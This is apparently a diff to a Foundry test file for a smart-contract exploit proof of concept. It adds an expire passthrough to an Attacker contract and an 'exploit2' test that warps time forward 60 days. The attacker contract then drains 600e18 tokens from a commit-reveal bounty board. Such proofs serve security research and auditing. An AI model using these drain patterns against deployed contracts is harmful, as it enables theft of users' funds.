@@ -33,6 +33,10 @@ contract Attacker {
         board = board_;
     }
 
+    function expire(uint256 id) external {
+        board.expire(id);
+    }
+
     function sawCommit(bytes32 commitment) external {
         board.commit(commitment);
     }
@@ -100,6 +104,7 @@ contract Proof {
         (bool ok, ) = address(board).call(abi.encodeCall(board.expire, (second)));
         require(!ok, "still running");
         vm.warp(block.timestamp + 7 days);
+        vm.prank(AUTHOR);
         board.expire(second);
         require(token.balanceOf(AUTHOR) == 400e18, "expired");
     }
@@ -174,6 +179,17 @@ contract Proof {
         exploit();
         require(token.balanceOf(address(shadow)) == 600e18, "nothing gained");
         require(!_reveal(FRED, FLAG, SALT), "left for Fred");
+    }
+
+    // Nobody has solved it in time.
+    function exploit2() public {
+        vm.warp(block.timestamp + 60 days);
+        shadow.expire(id);
+    }
+
+    function test_Exploit2() public {
+        exploit2();
+        require(token.balanceOf(address(shadow)) == 600e18, "nothing gained");
     }
 
     function target() public view returns (address) {
